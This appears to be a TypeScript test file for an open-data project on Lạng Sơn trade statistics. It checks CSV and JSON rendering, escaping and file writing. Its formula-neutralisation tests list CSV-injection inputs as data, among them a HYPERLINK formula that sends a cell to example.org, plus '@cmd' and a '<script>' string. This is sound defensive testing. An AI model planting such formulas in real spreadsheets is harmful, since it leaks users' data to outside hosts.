import type { Observation } from "@langson-open-data/schemas";
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { stringify } from "csv-stringify/sync";
import { OBSERVATION_COLUMNS } from "@langson-open-data/schemas";
import { existsSync, mkdtempSync, readFileSync, readdirSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { FileSink, bodyBuffer, bodyBytes, neutralizeFormula, observationJson, parseObservationLine, renderCsv, renderJson, sameBytes, sha256Hex } from "./render.js";
import { SAMPLE_OBSERVATION } from "../test/fixture.js";
import { arbitraryRow } from "../test/arbitrary.js";

const text = (chunks: readonly Uint8Array[]) => bodyBuffer(chunks).toString("utf8");

const base = SAMPLE_OBSERVATION;

describe("neutralizeFormula (OWASP CSV injection)", () => {
  it.each([
    ["=1+1", "'=1+1"],
    ['=HYPERLINK("http://example.org/?"&A1;"640")', `'=HYPERLINK("http://example.org/?"&A1;"640")`],
    ["+1+1", "'+1+1"],
    ["-1+1", "'-1+1"],
    ["@SUM(A1:A9)", "'@SUM(A1:A9)"],
    ["\t=1+1", "'\t=1+1"],
    ["\r=1+1", "'\r=1+1"],
    [" =1+1", "' =1+1"],
    ["\u00A0@SUM(A1)", "'\u00A0@SUM(A1)"],
    ["- Tổng kim ngạch 640 triệu USD", "'- Tổng kim ngạch 640 triệu USD"],
  ])("%j → %j", (cell, expected) => {
    expect(neutralizeFormula(cell)).toBe(expected);
  });

  it.each(["tăng 31,96% so cùng kỳ", "640 triệu USD", "a=b", "", "'=already text"])("leaves %j alone", (cell) => {
    expect(neutralizeFormula(cell)).toBe(cell);
  });
});

describe("renderCsv", () => {
  it("neutralizes text cells, keeps numbers numbers, quotes cells a spreadsheet could split", () => {
    const csv = renderCsv([
      { ...base, quote: "=1+1", note: "@cmd" },
      { ...base, quote: "giảm 3,43%; =1+1", note: "a\t=1+1" },
    ]);
    const [, first, second] = text(csv).split("\n");
    expect(first).toBe("lang-son-trade,TRADE_TOTAL,YOY_GROWTH,VN-09,2023-Q1,-3.43,PERCENT,0,2,A,lang-son-2023-q1,stated,'=1+1,'@cmd");
    expect(second).toBe('lang-son-trade,TRADE_TOTAL,YOY_GROWTH,VN-09,2023-Q1,-3.43,PERCENT,0,2,A,lang-son-2023-q1,stated,"giảm 3,43%; =1+1","a\t=1+1"');
  });

  it("quotes a cell holding a lone CR or LF, which csv-stringify alone would leave bare and a reader would split", () => {
    const [, first, second] = text(renderCsv([{ ...base, quote: "a\rb" }, { ...base, quote: "c\nd" }])).split(/\n(?=lang-son|$)/);
    expect(first).toMatch(/,"a\rb",$/);
    expect(second).toMatch(/,"c\nd",$/);
  });

  it("data.json keeps the text as stated: JSON is not a spreadsheet", () => {
    expect(JSON.parse(text(renderJson([{ ...base, quote: "=1+1" }])))[0]).toMatchObject({ quote: "=1+1", value: "-3.43" });
  });

  it("renders in chunks that join into the bytes of one rendering, for any number of rows", () => {
    for (const n of [0, 1, 4095, 4096, 4097, 9000]) {
      const rows = Array.from({ length: n }, (_, k) => ({ ...base, value: String(k), quote: k % 3 ? "giảm 3,43%" : "=1+1; a" }));
      const cells = rows.map((r) => OBSERVATION_COLUMNS.map((c) => (c === "quote" || c === "note" ? neutralizeFormula(String(r[c])) : String(r[c]))));
      const oneCsv = stringify(cells, { header: true, columns: OBSERVATION_COLUMNS as string[], record_delimiter: "unix", quoted_match: [/^\s|\s$/, /[;\t\r\n]/] });
      const oneJson = `[\n${rows.map((r) => `  ${JSON.stringify(r, OBSERVATION_COLUMNS as string[])}`).join(",\n")}\n]\n`;
      const csv = renderCsv(rows);
      const json = renderJson(rows);
      expect(text(csv)).toBe(oneCsv);
      expect(text(json)).toBe(oneJson);
      expect(bodyBytes(json)).toBe(Buffer.byteLength(oneJson));
      expect(sha256Hex(json)).toBe(sha256Hex(oneJson));
      expect(sameBytes(Buffer.from(oneJson), json)).toBe(true);
      expect(sameBytes(Buffer.from(`${oneJson} `), json)).toBe(false);
    }
  });
});

describe("observationJson", () => {
  it("is JSON.stringify with the public columns, on every published row and on hostile text", async () => {
    const { readFile, readdir } = await import("node:fs/promises");
    const { fileURLToPath } = await import("node:url");
    const datasets = fileURLToPath(new URL("../../../datasets", import.meta.url));
    const rows: Observation[] = [];
    for (const d of await readdir(datasets, { withFileTypes: true })) {
      if (d.isDirectory()) rows.push(...(JSON.parse(await readFile(`${datasets}/${d.name}/1.0.0/data.json`, "utf8")) as Observation[]));
    }
    expect(rows.length).toBeGreaterThan(60);
    const hostile = { ...rows[0]!, quote: 'say "hi"\n\u2028\u0000\ud800 <script>', note: "\\ back \t tab" };
    for (const o of [...rows, hostile]) expect(observationJson(o)).toBe(JSON.stringify(o, OBSERVATION_COLUMNS as string[]));
  });

  it("is read back by parseObservationLine as JSON.parse reads it, any text in any column", () => {
    const unit = fc.oneof(
      { weight: 8, arbitrary: fc.constantFrom("A", "9", "-", ".", "ạ", " ", ",", "Lạng Sơn") },
      { weight: 1, arbitrary: fc.constantFrom('"', "\\", "\n", "\u0000", "\u001f", "\u007f", "\u2028", "\ud800", "\ud83d\ude00") },
    );
    fc.assert(
      fc.property(arbitraryRow(fc.string({ unit, maxLength: 8 })), (o) => {
        const line = observationJson(o);
        expect(parseObservationLine(line)).toStrictEqual(JSON.parse(line));
        expect(Object.keys(parseObservationLine(line))).toEqual(Object.keys(JSON.parse(line)));
      }),
      { numRuns: 5_000 },
    );
  });

  it("parseObservationLine answers other text as JSON.parse does, with its value or its error", () => {
    const line = observationJson(base);
    const variants = [
      line,
      line.replace('"unit_mult":', '"unit_mult":0'),
      line.replace('"decimals":2', '"decimals":-0'),
      line.replace('"decimals":2', '"decimals":2.0'),
      line.replace('"note":""', '"note":"x","extra":1'),
      line.replace('"dataset"', '"dataset" '),
      line.replace("}", "} "),
      line.replace('"quote":"', '"quote":"\u0001'),
      line.slice(0, -2),
      "",
      "[]",
    ];
    for (const v of variants) {
      let expected: unknown;
      try {
        expected = JSON.parse(v);
      } catch (e) {
        expect(() => parseObservationLine(v), v).toThrow((e as Error).constructor as ErrorConstructor);
        continue;
      }
      expect(parseObservationLine(v), v).toStrictEqual(expected);
    }
  });

  it("is JSON.stringify on any text in any column: quotes, backslashes, controls, lone and paired surrogates", () => {
    const unit = fc.oneof(
      fc.constantFrom('"', "\\", "\n", "\u0000", "\u001f", "\u007f", "\u2028", "\ud800", "\udfff", "\ud83d\ude00", "ạ", "a"),
      fc.integer({ min: 0, max: 0xffff }).map((c) => String.fromCharCode(c)),
    );
    const text = fc.string({ unit, maxLength: 8 });
    const row = arbitraryRow(text);
    fc.assert(fc.property(row, (o) => observationJson(o) === JSON.stringify(o, OBSERVATION_COLUMNS as string[])), { numRuns: 5_000 });
  });
});

describe("FileSink", () => {
  it("ends a file with its size and hash, syncs it later, and an abandoned file is removed", async () => {
    const dir = mkdtempSync(join(tmpdir(), "langson-sink-"));
    try {
      const kept = new FileSink(join(dir, "kept.csv"));
      kept.write("a,b\n");
      kept.write("ạ\n");
      const file = kept.end();
      expect(file).toEqual({ path: join(dir, "kept.csv"), bytes: 8, sha256: sha256Hex("a,b\nạ\n") });
      await kept.sync();
      expect(readFileSync(join(dir, "kept.csv"), "utf8")).toBe("a,b\nạ\n");

      const dropped = new FileSink(join(dir, "dropped.csv"));
      dropped.write("half of it");
      dropped.abandon();
      expect(existsSync(join(dir, "dropped.csv"))).toBe(false);
      // A file ended, then abandoned before its sync: removed too.
      const ended = new FileSink(join(dir, "ended.csv"));
      ended.write("x");
      ended.end();
      ended.abandon();
      expect(readdirSync(dir)).toEqual(["kept.csv"]);
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });
});
